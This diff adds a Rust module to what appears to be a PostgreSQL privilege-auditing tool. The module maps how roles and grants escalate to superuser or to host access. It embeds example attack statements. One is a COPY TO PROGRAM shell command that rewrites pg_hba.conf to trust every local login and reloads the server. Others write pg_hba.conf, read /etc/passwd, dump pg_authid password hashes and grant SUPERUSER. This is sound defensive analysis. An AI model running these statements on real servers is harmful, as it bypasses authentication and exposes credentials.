@@ -1,0 +1,170 @@
+//! Ways that lead to the server itself: superusers, the account that it runs under, its files, copies of it.
+
+use super::{Here, is, on};
+use crate::quote::{identifier, literal};
+use crate::rules::{parameter_meaning, reaches_server};
+use crate::words::{attribute, kind, operation};
+use model::{Certainty, Escalation, From, Gain, LOGIN, Name, Object, Observed, Operation, Place, RoleName};
+use std::sync::Arc;
+
+/// Opens the door to everybody who is on the server's machine, and lets the server read that.
+const OPEN_THE_DOOR: &str =
+    "cat >/dev/null; sed -i '1ilocal all all trust' pg_hba.conf && kill -HUP $(head -n 1 postmaster.pid)";
+
+/// What holds in every database alike.
+pub(super) fn of_cluster(observed: &Observed, all: &mut Vec<Escalation>) {
+    let step = |from, gain, certainty, because: String, statements| Escalation {
+        from,
+        gain,
+        certainty,
+        database: None,
+        because,
+        statements,
+    };
+    for role in observed.access.roles.keys() {
+        if is(observed, role, &attribute::SUPERUSER) {
+            let because = format!("{role} is a superuser: nothing is checked");
+            all.push(step(
+                From::Runs(role.clone()),
+                Gain::Everything,
+                Certainty::Direct,
+                because,
+                Vec::new(),
+            ));
+        } else if is(observed, role, &attribute::REPLICATION) && is(observed, role, &attribute::LOGIN) {
+            let because = format!("{role} has replication, so it can copy the files of the whole cluster");
+            let copies = vec!["BASE_BACKUP".to_owned()];
+            all.push(step(From::LogsIn(role.clone()), Gain::Copy, Certainty::Direct, because, copies));
+        }
+    }
+    let keys = [
+        (
+            "pg_execute_server_program",
+            Gain::Host,
+            "runs programs as the server's account",
+            program(OPEN_THE_DOOR),
+        ),
+        (
+            "pg_write_server_files",
+            Gain::Host,
+            "writes files as the server's account, also the one that says who may log in, which counts from the next \
+             reload on",
+            "COPY (SELECT 'local all all trust') TO '/…/pg_hba.conf'".to_owned(),
+        ),
+        (
+            "pg_read_server_files",
+            Gain::Files,
+            "reads files as the server's account",
+            "CREATE TEMPORARY TABLE lines (line text); COPY lines FROM '/etc/passwd'".to_owned(),
+        ),
+    ];
+    for (key, gain, what, statement) in keys {
+        let role = RoleName::new(key).ok().filter(|role| observed.access.roles.contains_key(role));
+        if let Some(role) = role {
+            let because = format!("{key} {what}");
+            all.push(step(From::Uses(role), gain, Certainty::Direct, because, vec![statement]));
+        }
+    }
+    onward(observed, all);
+}
+
+/// What follows from the server's account, its files and a copy of it.
+fn onward(observed: &Observed, all: &mut Vec<Escalation>) {
+    let mut step = |from, gain, certainty, because: &str, statements| {
+        let (from, because) = (From::Gained(from), because.to_owned());
+        all.push(Escalation { from, gain, certainty, database: None, because, statements });
+    };
+    let root = identifier(observed.at.root.as_str());
+    let becomes = vec![format!("\\connect - {root}"), format!("ALTER ROLE {LOGIN} SUPERUSER")];
+    step(
+        Gain::Host,
+        Gain::Everything,
+        Certainty::Direct,
+        "the server's account decides who may log in as whom (pg_hba.conf), so also as a superuser",
+        becomes,
+    );
+    step(Gain::Host, Gain::Files, Certainty::Direct, "the server's account reads the files", Vec::new());
+    step(
+        Gain::Copy,
+        Gain::Verifiers,
+        Certainty::Direct,
+        "the copy has what is stored of passwords (pg_authid)",
+        Vec::new(),
+    );
+    let unknown = |why: &str| Certainty::Unknown(why.to_owned());
+    step(
+        Gain::Verifiers,
+        Gain::Everything,
+        unknown("it depends on how good the passwords of superusers are"),
+        "a password can be guessed from what is stored of it, as often as one likes",
+        Vec::new(),
+    );
+    step(
+        Gain::Files,
+        Gain::Everything,
+        unknown("it depends on what the files hold"),
+        "files that the server's account reads may hold passwords and keys",
+        Vec::new(),
+    );
+}
+
+fn program(command: &str) -> String {
+    format!("COPY (SELECT) TO PROGRAM {}", literal(command))
+}
+
+/// What depends on a privilege, judged inside a database.
+pub(super) fn inside(here: &Here<'_>, all: &mut Vec<Escalation>) {
+    verifiers(here, all);
+    for (object, acl) in &here.observed.access.entries {
+        if object.kind == kind::ROUTINE && here.holds(object) {
+            routine(here, object, all);
+        } else if object.kind == kind::PARAMETER {
+            for operation in [operation::SET, operation::ALTER_SYSTEM] {
+                if acl.iter().any(|(_, held)| held.get(&operation).is_some()) {
+                    parameter(here, object, operation, all);
+                }
+            }
+        }
+    }
+}
+
+fn verifiers(here: &Here<'_>, all: &mut Vec<Escalation>) {
+    for table in ["pg_authid", "pg_shadow"] {
+        let path = ["pg_catalog", table].iter().filter_map(|part| Name::new(*part).ok()).collect();
+        let table = Arc::new(Object::new(Place::Database(here.database.clone()), kind::TABLE, path));
+        let because = format!("{table} has what is stored of every password");
+        let reads = vec![format!("SELECT rolname, rolpassword FROM pg_catalog.pg_authid")];
+        let from = here.has(&[on(operation::SELECT, &table)]);
+        all.push(here.step(from, Gain::Verifiers, because, reads));
+    }
+}
+
+/// A function of the server or of an extension that reaches around it.
+fn routine(here: &Here<'_>, object: &Arc<Object>, all: &mut Vec<Escalation>) {
+    let Some(writes) = reaches_server(here.observed, object) else { return };
+    let from = here.has(&[on(operation::EXECUTE, object)]);
+    let call = vec![format!("SELECT {}", super::perform::call(object))];
+    let connects = object.path.last().is_some_and(|name| name.as_str() == "dblink_connect_u");
+    let because = format!("{object} reaches what the server's account reaches");
+    let step = if connects {
+        let certainty =
+            Certainty::Unknown("it depends on whom the servers within reach let in unasked".to_owned());
+        Escalation { certainty, ..here.step(from, Gain::Everything, because, call) }
+    } else {
+        here.step(from, if writes { Gain::Host } else { Gain::Files }, because, call)
+    };
+    all.push(step);
+}
+
+fn parameter(here: &Here<'_>, object: &Arc<Object>, operation: Operation, all: &mut Vec<Escalation>) {
+    let name = object.path.iter().map(ToString::to_string).collect::<Vec<_>>().join(".");
+    let Some(meaning) = parameter_meaning(&name, &operation) else { return };
+    let lasting = operation == operation::ALTER_SYSTEM;
+    let because = format!("whoever sets {name} {meaning}");
+    let statement =
+        if lasting { format!("ALTER SYSTEM SET {name} = …") } else { format!("SET {name} = …") };
+    let from = here.has(&[on(operation, object)]);
+    let why = "it depends on what can be loaded or run there, and when the server next reads its settings";
+    let step = here.step(from, Gain::Host, because, vec![statement]);
+    all.push(Escalation { certainty: Certainty::Unknown(why.to_owned()), ..step });
+}
